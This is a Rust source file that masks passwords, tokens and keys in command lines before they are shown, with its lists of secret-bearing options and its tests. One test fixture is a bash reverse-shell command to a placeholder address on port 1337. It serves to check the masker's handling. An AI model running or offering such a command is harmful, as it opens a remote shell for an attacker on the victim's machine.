//! Command lines before they are shown: secrets stand in them in ways that no rule over whole texts can tell, behind short
//! options of some tools, in front of a pipe, or as a bare word. What is masked here goes through the redactor as well.

use super::text::MASK;

/// Names whose value is a secret, as a whole word.
const NAMES: &[&str] = &[
    "pass",
    "pwd",
    "pw",
    "passwd",
    "passin",
    "passout",
    "key",
    "auth",
    "connection-string",
    "accountkey",
    "proxy-user",
];

/// The same as part of a word.
const PARTS: &[&str] = &[
    "password",
    "passwd",
    "passphrase",
    "secret",
    "token",
    "apikey",
    "api-key",
    "api_key",
    "access-key",
    "access_key",
    "credential",
    "_pass",
    "-pass",
    "_pwd",
    "-pwd",
];

/// Tools, and options of them that a secret follows.
const TOOLS: &[(&str, &[&str])] = &[
    ("redis-cli", &["-a"]),
    ("sqlcmd", &["-P"]),
    ("az", &["-p"]),
    ("mongo", &["-p"]),
    ("mongosh", &["-p"]),
    ("mongodump", &["-p"]),
    ("mosquitto_pub", &["-P"]),
    ("mosquitto_sub", &["-P"]),
    ("ldapsearch", &["-w"]),
    ("ldapmodify", &["-w"]),
    ("zip", &["-P"]),
    ("sshpass", &["-p"]),
    ("twine", &["-p"]),
    ("usermod", &["-p"]),
    ("useradd", &["-p"]),
    ("ssh-keygen", &["-N", "-P"]),
    ("snmpget", &["-c"]),
    ("snmpwalk", &["-c"]),
    ("curl", &["-U", "-b", "-u"]),
    ("smbclient", &["-U"]),
    ("htpasswd", &["-b", "-bc"]),
    ("openssl", &["-k", "-K"]),
    ("vault", &["login"]),
];

/// Tools that take a secret right behind `-p`.
const ATTACHED: &[&str] =
    &["mysql", "mysqldump", "mysqladmin", "mariadb", "mariadb-dump", "7z", "7za", "sshpass", "unzip"];

/// What reads a secret from its input.
const READS_SECRET: &[&str] = &["-stdin", "sudo -S", "chpasswd", "passphrase-fd", "gpg --passphrase"];

/// Shortest bare word that may be a key by its looks, in bytes.
const SHORTEST: usize = 20;

/// The text with what looks like a secret masked.
#[must_use]
pub fn masked(text: &str) -> String {
    let mut reader = Reader { out: String::new(), tool: "", hides: Hides::Nothing, is_fed: reads_secret(text) };
    let mut rest = text;
    while !rest.is_empty() {
        let gap = rest.find(|at| !is_separator(at)).unwrap_or(rest.len());
        let (between, behind) = rest.split_at(gap);
        let end = behind.find(is_separator).unwrap_or(behind.len());
        let (word, behind) = behind.split_at(end);
        reader.take(between, word, behind);
        rest = behind;
    }
    reader.out
}

fn reads_secret(text: &str) -> bool {
    READS_SECRET.iter().any(|one| text.contains(one))
}

fn is_separator(at: char) -> bool {
    at.is_whitespace() || "'\"`=:,;|&(){}<>[]\\?".contains(at)
}

/// What is hidden next.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Hides {
    Nothing,
    /// The next word, and what hangs on it without a blank.
    Next,
    /// What hangs on the word that was hidden.
    Rest,
    /// Everything up to the next quote.
    ToQuote,
    /// Everything up to the next pipe.
    ToPipe,
}

struct Reader<'t> {
    out: String,
    tool: &'t str,
    hides: Hides,
    /// Whether something in the text reads a secret from its input.
    is_fed: bool,
}

impl<'t> Reader<'t> {
    fn take(&mut self, between: &str, word: &'t str, behind: &str) {
        self.out.push_str(between);
        if between.contains([';', '|', '&', '\n']) {
            self.hides = Hides::Nothing;
            self.tool = "";
        }
        let is_apart = between.contains(char::is_whitespace);
        match self.hides {
            Hides::Rest if is_apart => self.hides = Hides::Nothing,
            Hides::ToQuote if between.contains(['\'', '"']) && !between.contains(':') => self.hides = Hides::Nothing,
            _ => {}
        }
        if between.contains("<<<") {
            self.hides = Hides::Next;
        }
        if word.is_empty() {
            return;
        }
        match self.hide(between, word) {
            Some(shown) => {
                self.out.push_str(shown);
                self.out.push_str(MASK);
            }
            None => {
                self.out.push_str(word);
                self.learn(word, behind);
            }
        }
    }

    /// What of a word is shown in front of the mask, if it is hidden.
    fn hide(&mut self, between: &str, word: &'t str) -> Option<&'t str> {
        let is_place = ["/", "~/", "./", "$", "%", "-"].iter().any(|start| word.starts_with(start));
        match self.hides {
            Hides::Next if !is_place => {
                self.hides = Hides::Rest;
                return Some("");
            }
            Hides::Next if word.starts_with('-') && !between.contains(['=', ':']) => self.hides = Hides::Nothing,
            Hides::Rest | Hides::ToQuote | Hides::ToPipe if !is_place => return Some(""),
            _ => {}
        }
        if ATTACHED.contains(&self.tool) && word.len() > 2 && word.starts_with("-p") && !word.starts_with("-p-") {
            return word.get(..2);
        }
        is_opaque(word).then_some("")
    }

    /// What a word that is shown says of the ones behind it.
    fn learn(&mut self, word: &'t str, behind: &str) {
        let name = word.rsplit('/').next().unwrap_or(word);
        let tool = TOOLS.iter().find(|(tool, _)| *tool == name);
        if tool.is_some() || ATTACHED.contains(&name) {
            self.tool = name;
        }
        let options = TOOLS.iter().find(|(tool, _)| *tool == self.tool).map_or(&[] as &[&str], |(_, options)| options);
        let lower = word.trim_start_matches(['-', '/']).to_ascii_lowercase();
        // `gh auth` is no name of a value.
        let is_given = lower != "auth" || word.starts_with('-') || behind.starts_with(['=', ':']);
        let is_named = (is_given && NAMES.contains(&lower.as_str())) || PARTS.iter().any(|part| lower.contains(part));
        let is_short = lower == "p" && word.starts_with('/') && behind.starts_with(':');
        // A path has such words in it, too.
        let is_path = word.get(1..).is_some_and(|rest| rest.contains('/')) && !word.starts_with("//");
        if lower == "cookie" {
            self.hides = Hides::ToQuote;
        } else if self.is_fed && matches!(name, "echo" | "printf") {
            self.hides = Hides::ToPipe;
        } else if (is_named && !is_path) || is_short || options.contains(&word) {
            self.hides = Hides::Next;
        }
    }
}

/// Whether a bare word looks like a key: long, of letters and digits that take turns.
fn is_opaque(word: &str) -> bool {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"+_-.~/".contains(&byte);
    if word.len() < SHORTEST || !word.bytes().all(is_plain) {
        return false;
    }
    word.split(['/', '.']).filter(|part| part.len() >= SHORTEST).any(|part| {
        let bytes = part.as_bytes();
        let turns =
            |of: fn(&u8) -> bool| bytes.windows(2).filter(|pair| matches!(pair, [a, b] if of(a) != of(b))).count();
        let cases = turns(u8::is_ascii_uppercase);
        turns(u8::is_ascii_digit) >= 4 || (cases >= 6 && bytes.iter().any(u8::is_ascii_lowercase))
    })
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn secrets_of_commands_are_not_shown() {
        const S: &str = "hunter2x";
        for command in [
            "/tmp/x \"--token\" \"{S}\"",
            "x --pass {S}",
            "x --pwd={S}",
            "PASS={S} x",
            "x --key {S}",
            "node x --auth={S}",
            "rclone --sftp-pass {S}",
            "mysql -uroot -p{S} db",
            "curl -d \"{\\\"password\\\":\\\"{S}\\\"}\" http://h",
            "echo {S} | docker login --password-stdin",
            "echo {S} | sudo -S x",
            "sudo -S <<< {S} x",
            "echo root:{S} | chpasswd",
            "printf '{S}' | gpg --passphrase-fd 0",
            "aws configure set aws_secret_access_key {S}",
            "vault login {S}",
            "ngrok authtoken {S}",
            "openssl x -passin pass:{S}",
            "curl --proxy-user a:{S} h",
            "curl -U a:{S} h",
            "curl -H \"Cookie: sid={S}\" h",
            "curl -b session={S} h",
            "xfreerdp /p:{S}",
            "redis-cli -a {S}",
            "sqlcmd -P {S}",
            "ldapsearch -w {S}",
            "zip -P {S}",
            "ssh-keygen -N {S}",
            "usermod -p {S}",
            "x -pass {S}",
            "x --connection-string \"AccountKey={S}==\"",
            "mongo -p {S}",
            "sshpass -p {S} ssh h",
        ] {
            assert!(command.contains("{S}"), "{command}");
            let shown = masked(&command.replace("{S}", S));
            assert!(!shown.contains(S), "{command}: {shown}");
        }
        let key = "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY";
        for command in
            [format!("x {key}"), format!("curl https://h/bot1234567890:{key}/send"), format!("echo {key} | x")]
        {
            assert!(!masked(&command).contains(key), "{command}");
        }
    }

    #[test]
    fn the_rest_stays() {
        for command in [
            "/usr/bin/python3 -u %h/.config/x/x.py --fast",
            "/usr/sbin/sshd -D $SSHD_OPTS",
            "run-parts --report /etc/cron.daily",
            "/usr/lib/x86_64-linux-gnu/libexec/kf5/org_kde_powerdevil",
            "test -x /usr/sbin/anacron || ( cd / )",
            "/usr/bin/gpg-agent --supervised",
            "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then x; fi",
            "/usr/bin/ssh-keygen -A",
            "/usr/libexec/gnome-session-binary --systemd --session=gnome-login",
            "bash -i >& /dev/tcp/192.0.2.1/1337 0>&1",
        ] {
            assert_eq!(masked(command), command);
        }
    }

    proptest! {
        #[test]
        fn nothing_is_added_but_masks(text in "\\PC{0,120}") {
            let shown = masked(&text).replace(MASK, "");
            prop_assert!(shown.len() <= text.len());
        }
    }
}
